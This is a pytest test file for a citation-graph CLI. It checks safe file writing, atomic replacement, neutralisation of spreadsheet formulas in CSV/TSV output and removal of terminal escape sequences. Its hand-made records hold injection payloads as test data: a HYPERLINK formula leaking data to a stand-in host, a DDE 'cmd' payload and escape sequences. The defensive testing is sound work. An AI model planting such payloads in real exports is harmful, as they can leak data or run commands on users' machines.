"""Reliability, round two (issue 19), cases 6-9: what citegraph writes, and what it prints, stays safe.

6. ``-o`` writes through a symbolic link (the file it leads to is replaced, the link kept) and refuses a
   folder, a device or a named pipe before any work is done;
7. figures and ``coverage.json`` are replaced atomically: a full disk or a Ctrl-C leaves the previous file
   intact and no temporary file;
8. CSV/TSV cells from record text cannot start a spreadsheet formula (numbers stay numbers);
9. escape sequences and control characters in record text never reach the terminal.

The records are HAND-MADE (Crossref-shaped, DOIs under the test prefix 10.5555); they are not Crossref data.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import stat
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from reliability_helpers import assert_one_line_error, cli_command

from citegraph.cli import cli
from citegraph.store import Store
from citegraph.store.records import parse_work

Run = Callable[..., subprocess.CompletedProcess[str]]

FORMULA_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click here")',
    "+SUM(1,2) in a title",
    "-2+3 cells everywhere",
    "@SUM(A1:A9) at the start",
]
ESCAPE_TITLE = "\x1b]0;pwned\x07Window \x1b[2J\x1b[31mtitle\x1b[0m with \x9b31m C1 \x07bell \u202eevil\u202c end"
TITLES = [*FORMULA_TITLES, ESCAPE_TITLE, "A plain title", "Another plain title", "A third plain title"]
#: What is left of ESCAPE_TITLE on a terminal: the words, without the sequences.
ESCAPE_WORDS = ("Window", "title", "with", "C1", "bell", "evil", "end")
#: The characters and sequences that must never reach a terminal.
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


#: Publication years of the older work each record cites: 1992 stands out, 1991 falls below the median.
OLD_YEARS = [1990, 1990, 1991, 1992, 1992, 1992, 1993, 1993]


def hand_made_records() -> list[dict[str, Any]]:
    """HAND-MADE records: each cites the next two (with reference years, so RPYS has negative deviations)."""
    n = len(TITLES)
    records = []
    for i, title in enumerate(TITLES):
        records.append({
            "DOI": f"10.5555/round2-{i}", "title": [title], "type": "journal-article",
            "author": [{"family": "=cmd|' /C calc'!A0" if i == 0 else f"Author{i}"}],
            "container-title": ["@Journal of Formulas" if i % 2 else "Journal of Plain Names"],
            "issued": {"date-parts": [[2000 + i]]}, "is-referenced-by-count": 3 * i,
            "reference": [{"key": f"r{j}", "DOI": f"10.5555/round2-{(i + j) % n}", "year": str(2000 + (i + j) % n)}
                          for j in (1, 2)]
                         + [{"key": "old", "DOI": f"10.5555/old-{i}", "year": str(OLD_YEARS[i])}],
        })
    # a preprint and its article, titles full of escape sequences: `citegraph duplicates` lists them
    for doi, kind in (("10.5555/round2-pre", "posted-content"), ("10.5555/round2-art", "journal-article")):
        records.append({"DOI": doi, "title": [ESCAPE_TITLE], "type": kind, "author": [{"family": "\x1b[5mRoe\x1b[0m"}],
                        "issued": {"date-parts": [[2015]]}})
    return records


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("round2") / "round2.sqlite"
    with Store(path) as s:
        s.add_works([parse_work(r, source="hand-made") for r in hand_made_records()])
    return path


@pytest.fixture
def work(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty working folder (data/ and figures/ land here); every CITEGRAPH_* variable unset."""
    for name in list(os.environ):
        if name.startswith("CITEGRAPH_"):
            monkeypatch.delenv(name)
    folder = tmp_path / "work"
    folder.mkdir()
    monkeypatch.chdir(folder)
    return folder


def temporaries(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.rglob("*") if p.name.endswith(".tmp"))


# -- 6. -o writes through links, refuses what is not a regular file ----------------------------------------


def test_o_writes_through_a_symlink_and_keeps_the_link(run_citegraph: Run, store: Path, work: Path) -> None:
    real = work / "kept" / "real.json"
    real.parent.mkdir()
    real.write_text("old\n")
    real.chmod(0o640)
    link = work / "link.json"
    link.symlink_to(Path("kept") / "real.json")
    result = run_citegraph("--store", str(store), "export", "--format", "json", "-o", str(link))
    assert result.returncode == 0, result.stderr
    assert link.is_symlink() and os.readlink(link) == str(Path("kept") / "real.json")
    data = json.loads(real.read_text(encoding="utf-8"))
    assert len(data["nodes"]) == len(TITLES) + 2 + len(OLD_YEARS)  # stored works, the duplicate pair, older works
    assert stat.S_IMODE(real.stat().st_mode) == 0o640  # the file was replaced, its permissions kept
    assert temporaries(work) == []


@pytest.mark.parametrize("kind", ["fifo", "folder", "link to a fifo", "character device"])
def test_o_refuses_what_is_not_a_regular_file_before_any_work(run_citegraph: Run, store: Path, work: Path,
                                                              kind: str) -> None:
    target = work / "target"
    if kind == "folder":
        target.mkdir()
        expected = "it is a folder"
    elif kind == "character device":
        if os.geteuid() != 0:
            pytest.skip("making a device node needs root")
        os.mknod(target, stat.S_IFCHR | 0o666, os.makedev(1, 7))  # what /dev/full is
        expected = "it is a character device"
    else:
        os.mkfifo(target)
        expected = "it is a named pipe (FIFO)"
    given = target
    if kind == "link to a fifo":
        given = work / "link.csv"
        given.symlink_to(target)
        expected = f"it links to {str(target)!r}, a named pipe (FIFO)"
    before = os.lstat(target)
    result = run_citegraph("--store", str(store), "export", "--format", "graphml", "-o", str(given))
    line = assert_one_line_error(result, 2, repr(str(given)), expected, "give a regular file")
    assert line.startswith("citegraph: error: cannot write")
    after = os.lstat(target)
    assert (after.st_mode, after.st_ino, after.st_rdev) == (before.st_mode, before.st_ino, before.st_rdev)
    assert sorted(p.name for p in work.iterdir()) == sorted({"target", given.name})  # nothing else written


def test_a_fifo_among_the_default_outputs_stops_export_before_any_file_is_written(
        run_citegraph: Run, store: Path, work: Path) -> None:
    (work / "data").mkdir()
    os.mkfifo(work / "data" / "citegraph.gexf")
    result = run_citegraph("--store", str(store), "export")
    assert_one_line_error(result, 2, "citegraph.gexf", "named pipe")
    assert sorted(p.name for p in (work / "data").iterdir()) == ["citegraph.gexf"]
    assert stat.S_ISFIFO(os.lstat(work / "data" / "citegraph.gexf").st_mode)


# -- 7. figures and coverage.json replaced atomically -------------------------------------------------------


def run_with_file_size_limit(limit: int, *args: str) -> subprocess.CompletedProcess[str]:
    """Run the CLI with RLIMIT_FSIZE set: a write past ``limit`` bytes fails in the kernel (EFBIG), as on a
    full disk. (Python ignores SIGXFSZ, so the write raises OSError instead of killing the process.)"""
    import resource

    def limit_file_size() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    env = {k: v for k, v in os.environ.items() if not k.startswith("CITEGRAPH_")}
    return subprocess.run(cli_command(*args), env=env, capture_output=True, text=True, timeout=120,
                          preexec_fn=limit_file_size)


@pytest.mark.skipif(sys.platform == "win32", reason="RLIMIT_FSIZE is POSIX")
def test_a_full_disk_during_plot_keeps_the_previous_figures(store: Path, work: Path) -> None:
    figures = work / "figures"
    first = subprocess.run(cli_command("--store", str(store), "plot", "ranking", "--format", "png", "--format",
                                       "svg", "--out", str(figures)), capture_output=True, text=True, timeout=120)
    assert first.returncode == 0, first.stderr
    before = {p.name: p.read_bytes() for p in figures.iterdir()}
    assert sorted(before) == ["ranking.png", "ranking.svg"]
    # 40 KB: above SQLite's 32 KB shared-memory file of the store, below each figure
    limit = 40_000
    assert min(len(b) for b in before.values()) > limit
    # another score: different figures, so a half-replaced file cannot pass for the old one
    result = run_with_file_size_limit(limit, "--store", str(store), "plot", "ranking", "--score", "global",
                                      "--format", "png", "--format", "svg", "--out", str(figures))
    assert_one_line_error(result, 2, repr(str(figures / "ranking.png")), "File too large")
    assert {p.name: p.read_bytes() for p in figures.iterdir()} == before
    assert temporaries(work) == []


def test_ctrl_c_while_a_figure_is_saved_keeps_the_previous_figure(store: Path, work: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    from matplotlib.figure import Figure

    figures = work / "figures"
    runner = CliRunner()
    first = runner.invoke(cli, ["--store", str(store), "plot", "publications", "--format", "svg", "--out",
                                str(figures)], catch_exceptions=False)
    assert first.exit_code == 0, first.stderr
    old = (figures / "publications.svg").read_bytes()

    real_savefig = Figure.savefig

    def interrupted_savefig(self: Figure, fname: Any, *args: Any, **kwargs: Any) -> None:
        """Save half of the figure wherever it was asked to go, then Ctrl-C."""
        buffer = io.BytesIO()
        real_savefig(self, buffer, *args, **kwargs)
        half = buffer.getvalue()[: len(buffer.getvalue()) // 2]
        if isinstance(fname, (str, os.PathLike)):
            with open(fname, "wb") as fh:
                fh.write(half)
        else:
            fname.write(half)
        raise KeyboardInterrupt

    monkeypatch.setattr(Figure, "savefig", interrupted_savefig)
    result = runner.invoke(cli, ["--store", str(store), "plot", "publications", "--score", "global", "--format",
                                 "svg", "--out", str(figures)], catch_exceptions=False)
    assert result.exit_code == 130 and "interrupted" in result.stderr
    assert (figures / "publications.svg").read_bytes() == old
    assert sorted(p.name for p in figures.iterdir()) == ["publications.svg"]


def test_a_full_disk_during_status_coverage_keeps_the_previous_file(store: Path, work: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    runner = CliRunner()
    args = ["--store", str(store), "status", "--coverage", "-o", "data/coverage.json"]
    first = runner.invoke(cli, args, catch_exceptions=False)
    assert first.exit_code == 0, first.stderr
    old = (work / "data" / "coverage.json").read_bytes()
    (work / "data" / "coverage.json").write_bytes(old + b"\n")  # so that a rewrite would show

    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full)
    result = runner.invoke(cli, args, catch_exceptions=False)
    assert result.exit_code == 2, result.stderr
    assert result.stderr.splitlines() == [f"citegraph: error: cannot write {str(Path('data') / 'coverage.json')!r}: "
                                          "No space left on device"]
    assert (work / "data" / "coverage.json").read_bytes() == old + b"\n"
    assert temporaries(work) == []


# -- 8. CSV/TSV cells cannot start a formula ---------------------------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def cells(path: Path, delimiter: str) -> Iterator[tuple[str, str]]:
    """(column header, cell) of every data row."""
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=delimiter))
    for row in rows[1:]:
        yield from zip(rows[0], row, strict=True)


def test_csv_and_tsv_cells_from_records_cannot_start_a_formula(run_citegraph: Run, store: Path, work: Path) -> None:
    for args in (["analyse"], ["export", "--format", "csv", "--format", "vosviewer"]):
        result = run_citegraph("--store", str(store), *args)
        assert result.returncode == 0, result.stderr
    data = work / "data"
    tables = {name: (data / name, ",") for name in ("rankings.csv", "clusters.csv", "bursts.csv", "rpys.csv",
                                                    "main_path.csv", "citegraph_nodes.csv", "citegraph_edges.csv")}
    tables["citegraph_vos_map.txt"] = (data / "citegraph_vos_map.txt", "\t")
    seen: dict[str, list[str]] = {}
    for name, (path, delimiter) in tables.items():
        for column, cell in cells(path, delimiter):
            seen.setdefault(name, []).append(cell)
            if cell.startswith(FORMULA_START):
                assert NUMBER.fullmatch(cell), (name, column, cell)  # only a number may start with - or +
    ranking_titles = [cell for column, cell in cells(data / "rankings.csv", ",") if column == "title"]
    for title in FORMULA_TITLES:
        assert "'" + title in ranking_titles  # neutralised with a leading quote, otherwise unchanged
    node_cells = seen["citegraph_nodes.csv"]
    assert "'" + FORMULA_TITLES[0] in node_cells and "'@Journal of Formulas" in node_cells
    assert any(c.startswith("'=cmd|") for c in seen["citegraph_vos_map.txt"])  # the label, an author's name
    # numbers stay numbers: RPYS deviations below the median are written as negative numbers
    deviations = [float(cell) for column, cell in cells(data / "rpys.csv", ",") if column == "deviation"]
    assert min(deviations) < 0
    assert all(not cell.startswith("'") for column, cell in cells(data / "rpys.csv", ",") if column == "deviation")


# -- 9. no escape sequences on the terminal ------------------------------------------------------------------


def test_escape_sequences_in_titles_never_reach_the_terminal(run_citegraph: Run, store: Path, work: Path) -> None:
    outputs = {}
    for args in (["analyse", "--top", "20"], ["duplicates"], ["graph", "--top", "20"]):
        result = run_citegraph("--store", str(store), *args)
        assert result.returncode == 0, result.stderr
        outputs[args[0]] = result.stdout + result.stderr
    for command, text in outputs.items():
        assert not UNSAFE.search(text), (command, [m.group() for m in UNSAFE.finditer(text)])
    # the words of the title are still shown, only the sequences are gone
    shown = [line for line in outputs["analyse"].splitlines()
             if "Roe 2015a: Window title with" in line or "Roe 2015b: Window title with" in line]
    assert len(shown) == 2, outputs["analyse"]  # the preprint and the article: two works, "Roe 2015" a and b
    assert "pwned" not in outputs["analyse"] and "31m" not in outputs["analyse"]
    listed = [line.strip() for line in outputs["duplicates"].splitlines() if "Window" in line]
    assert listed and all(word in listed[0] for word in ESCAPE_WORDS), listed


# -- the functions behind them --------------------------------------------------------------------------------


@pytest.mark.parametrize("raw, shown", [
    ("\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\", "click"),  # OSC 8 hyperlink
    ("\x1bP+q544e\x1b\\after DCS", "after DCS"),
    ("\x9b2Jclear \x9d0;title\x9cscreen", "clear screen"),  # 8-bit CSI and OSC
    ("\x1bcreset \x1b(Bcharset", "reset charset"),
    ("a\rb\x08c\x7fd\x00e", "abcde"),
    ("\u2066isolate\u2069 \u202dLRO\u202c", "isolate LRO"),
    ("lone \ud800 surrogate", "lone \ufffd surrogate"),
    ("tab\tand\nnewline, עברית, 🧬", "tab\tand\nnewline, עברית, 🧬"),
])
def test_terminal_text_removes_what_a_terminal_would_obey(raw: str, shown: str) -> None:
    from citegraph.outputs.text import terminal_text

    assert terminal_text(raw) == shown


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("-", "'-"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("+1", "+1"), ("-3", "-3"), ("-1.5e-3", "-1.5e-3"), ("a=b", "a=b"),
    ("", ""),
])
def test_spreadsheet_cells_are_neutralised_and_numbers_kept(cell: str, written: str) -> None:
    from citegraph.outputs.text import spreadsheet_cell

    assert spreadsheet_cell(cell) == written


def test_the_writer_follows_a_chain_of_links_and_a_dangling_one(tmp_path: Path) -> None:
    from citegraph.outputs.files import write_text_files

    (tmp_path / "real.txt").write_text("old")
    (tmp_path / "middle").symlink_to("real.txt")
    (tmp_path / "first").symlink_to("middle")
    (tmp_path / "dangling").symlink_to("created.txt")
    write_text_files([(tmp_path / "first", "new\n"), (tmp_path / "dangling", "made\n")])
    assert (tmp_path / "real.txt").read_text() == "new\n" and (tmp_path / "created.txt").read_text() == "made\n"
    assert [os.readlink(tmp_path / n) for n in ("first", "middle", "dangling")] == ["middle", "real.txt",
                                                                                   "created.txt"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["created.txt", "dangling", "first", "middle", "real.txt"]


@pytest.mark.parametrize("fifo, args", [
    ("out.graphml", ["export", "--format", "graphml", "-o", "out.graphml"]),
    ("data/citegraph_nodes.csv", ["export", "--format", "csv"]),
    ("data/rankings.csv", ["analyse"]),
    ("figures/rpys.svg", ["plot", "--format", "svg"]),
    ("figures/bursts.png", ["report"]),
    ("data/report.html", ["report", "--no-figures"]),
    ("data/coverage.json", ["status", "--coverage", "-o", "data/coverage.json"]),
])
def test_every_command_refuses_a_bad_output_before_it_analyses(store: Path, work: Path, monkeypatch: pytest.MonkeyPatch,
                                                               fifo: str, args: list[str]) -> None:
    import citegraph.analysis.coverage
    import citegraph.analysis.pipeline

    def no_work(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("the analysis ran before the output paths were checked")

    monkeypatch.setattr(citegraph.analysis.pipeline, "analyse", no_work)
    monkeypatch.setattr(citegraph.analysis.coverage, "coverage_report", no_work)
    (work / fifo).parent.mkdir(exist_ok=True)
    os.mkfifo(work / fifo)
    result = CliRunner().invoke(cli, ["--store", str(store), *args], catch_exceptions=False)
    assert result.exit_code == 2, result.output
    assert result.stderr.splitlines() == [f"citegraph: error: cannot write {str(Path(fifo))!r}: it is a named pipe "
                                          "(FIFO); give a regular file, a link to one, or a new file name"]
